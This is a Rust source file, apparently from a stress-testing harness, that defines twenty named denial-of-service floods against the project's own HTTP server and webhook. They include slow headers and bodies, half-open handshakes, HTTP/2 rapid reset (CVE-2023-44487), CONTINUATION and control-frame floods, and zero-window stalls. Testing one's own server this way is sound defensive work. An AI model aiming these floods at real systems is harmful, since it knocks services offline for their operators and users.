//! The floods by name.

use std::path::Path;

use crate::flood::{Plan, Script, Then};
use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    UNKNOWN, WINDOW_UPDATE, frame, initial_window, literal, preface, request,
};
use crate::pki::HOST;
use crate::request::Request;
use crate::stranger::Layer;

pub(crate) const NAMES: &[&str] = &[
    "idle",
    "handshakes",
    "half-open",
    "slow-headers",
    "slow-bodies",
    "chunks",
    "oversized",
    "signatures",
    "resets",
    "rapid-reset",
    "continuation",
    "settings",
    "ping",
    "window-update",
    "priority",
    "unknown-frames",
    "empty-data",
    "websockets",
    "stopped-readers",
    "window-zero",
];

/// The flood of this name.
pub(crate) fn plan(name: &str, pki: &Path) -> Plan {
    match name {
        "idle" => idle(pki),
        "handshakes" => Plan {
            unit: "handshakes",
            ..plan_of(64, Layer::tls(pki, "http/1.1"), |_| script("", Then::Close))
        },
        "half-open" => {
            let hello = Layer::tls(pki, "http/1.1").client_hello();
            plan_of(4_000, Layer::Tcp, move |_| script(&hello, Then::Hold))
        }
        "slow-headers" => slow_headers(pki),
        "slow-bodies" => slow_bodies(pki),
        "chunks" => chunked(pki, "one-byte chunks", b"1\r\nx\r\n", 2_000),
        "oversized" => {
            let chunk = [b"10000\r\n", &[b'x'; 65_536][..], b"\r\n"].concat();
            chunked(pki, "chunks of 64 KiB", &chunk, 1)
        }
        "signatures" => signatures(pki),
        "resets" => resets(pki),
        "rapid-reset" => rapid_reset(pki),
        "continuation" => {
            let opening = frame(HEADERS, END_STREAM, 1, &request("GET", "/", &[]));
            let more = frame(CONTINUATION, 0, 1, &literal("x-more", "and more"));
            frames(pki, &opening, more)
        }
        "settings" => frames(pki, &[], frame(SETTINGS, 0, 0, &initial_window(65_535))),
        "ping" => frames(pki, &[], frame(PING, 0, 0, b"12345678")),
        "window-update" => frames(pki, &[], frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        "priority" => frames(pki, &[], frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 15])),
        "unknown-frames" => frames(pki, &[], frame(UNKNOWN, 0, 0, b"12345678")),
        "empty-data" => {
            let head = request("POST", "/upload", &[("content-length", "1000000")]);
            frames(pki, &frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, 0, 1, b""))
        }
        "websockets" => websockets(pki),
        "stopped-readers" => Plan {
            receive_buffer_bytes: Some(4_096),
            ..plan_of(2_000, Layer::tls(pki, "http/1.1"), |_| script(get("/big", ""), Then::Stop))
        },
        "window-zero" => window_zero(pki),
        _ => panic!("there is no flood `{name}`; `floods names` prints them"),
    }
}

/// Every other one has done a request before.
fn idle(pki: &Path) -> Plan {
    plan_of(15_000, Layer::tls(pki, "http/1.1"), |number| {
        let first = if number % 2 == 0 { get("/", "") } else { String::new() };
        script(first, Then::Hold)
    })
}

fn slow_headers(pki: &Path) -> Plan {
    Plan {
        unit: "header lines",
        ..plan_of(4_000, Layer::tls(pki, "http/1.1"), |_| {
            let whole = get("/", "");
            let begun = whole.trim_end_matches("\r\n").to_owned() + "\r\n";
            script(begun, Then::Drip(b"X-More: more\r\n".to_vec()))
        })
    }
}

/// Of the largest body, a byte a second, to the site and to the webhook without certificates.
fn slow_bodies(pki: &Path) -> Plan {
    Plan {
        unit: "bytes",
        ..plan_of(4_000, Layer::tls(pki, "http/1.1"), |number| {
            let path = if number % 2 == 0 { "/upload" } else { "/open" };
            script(post(path, "Content-Length: 4194304\r\n"), Then::Drip(b"x".to_vec()))
        })
    }
}

/// Chunks of a body without end, mostly to the webhook without certificates, which wants it whole.
fn chunked(pki: &Path, unit: &'static str, chunk: &[u8], chunks: u64) -> Plan {
    let batch = chunk.repeat(usize::try_from(chunks).unwrap());
    Plan {
        unit,
        ..plan_of(64, Layer::tls(pki, "http/1.1"), move |number| {
            let path = if number % 4 == 0 { "/upload" } else { "/open" };
            let first = post(path, "Transfer-Encoding: chunked\r\n");
            script(first, repeated(batch.clone(), chunks))
        })
    }
}

fn signatures(pki: &Path) -> Plan {
    let request = Request::signed(pki, 1024).with_wrong_signature().into_bytes();
    let (_, rest) = request.split_at("POST /webhooks".len());
    let request = [b"POST /open", rest].concat();
    Plan {
        unit: "requests",
        ..plan_of(64, Layer::tls(pki, "http/1.1"), move |_| script(&request, Then::Again))
    }
}

/// Every other one has begun a handshake before.
fn resets(pki: &Path) -> Plan {
    let hello = Layer::tls(pki, "http/1.1").client_hello();
    Plan {
        unit: "connections",
        ..plan_of(64, Layer::Tcp, move |number| {
            script(if number % 2 == 0 { &hello[..] } else { &[] }, Then::Reset)
        })
    }
}

/// Requests to the site, each reset at once (CVE-2023-44487).
fn rapid_reset(pki: &Path) -> Plan {
    let head = request("GET", "/", &[]);
    Plan {
        unit: "requests",
        ..plan_of(8, Layer::tls(pki, "h2"), move |_| {
            let head = head.clone();
            let mut stream = 1;
            let more = move |batch: &mut Vec<u8>| {
                for _ in 0..REQUESTS_A_BATCH {
                    batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
                    batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                    stream += 2;
                }
                REQUESTS_A_BATCH
            };
            script(preface(&[]), Then::Stream(Box::new(more)))
        })
    }
}

/// This frame over and over, after a proper beginning and this opening.
fn frames(pki: &Path, opening: &[u8], frame: Vec<u8>) -> Plan {
    let first = [preface(&[]), opening.to_vec()].concat();
    let frames = BATCH_BYTES / frame.len();
    let batch = frame.repeat(frames);
    Plan {
        unit: "frames",
        ..plan_of(8, Layer::tls(pki, "h2"), move |_| {
            script(&first, repeated(batch.clone(), frames as u64))
        })
    }
}

fn websockets(pki: &Path) -> Plan {
    let handshake = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                     Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    plan_of(2_000, Layer::tls(pki, "http/1.1"), move |_| script(get("/ws", handshake), Then::Hold))
}

/// A hundred requests a connection for a megabyte each, none of which may be sent.
fn window_zero(pki: &Path) -> Plan {
    let head = request("GET", "/big", &[]);
    let requests =
        (0..100).map(|number| frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &head));
    let first = [preface(&initial_window(0)), requests.flatten().collect()].concat();
    plan_of(100, Layer::tls(pki, "h2"), move |_| script(&first, Then::Hold))
}

/// Counts nothing but connections, and opens few at once, unless a caller says otherwise.
fn plan_of(connections: usize, layer: Layer, script: impl Fn(usize) -> Script + 'static) -> Plan {
    // Who makes no handshake needs nothing to open thousands.
    let opening = if matches!(layer, Layer::Tcp) { connections } else { 64 };
    Plan {
        unit: "",
        connections,
        opening,
        layer,
        receive_buffer_bytes: None,
        script: Box::new(script),
    }
}

fn script(first: impl AsRef<[u8]>, then: Then) -> Script {
    Script { first: first.as_ref().to_vec(), then }
}

fn repeated(batch: Vec<u8>, units: u64) -> Then {
    Then::Stream(Box::new(move |next| {
        next.extend_from_slice(&batch);
        units
    }))
}

fn get(path: &str, headers: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n{headers}\r\n")
}

/// With a signature that no body has, so that a webhook does not refuse it by its head.
fn post(path: &str, headers: &str) -> String {
    let digits = "5".repeat(64);
    format!(
        "POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n\
         X-Hub-Signature-256: sha256={digits}\r\n{headers}\r\n"
    )
}

/// As much as one TLS record takes.
const BATCH_BYTES: usize = 16_000;

const REQUESTS_A_BATCH: u64 = 50;
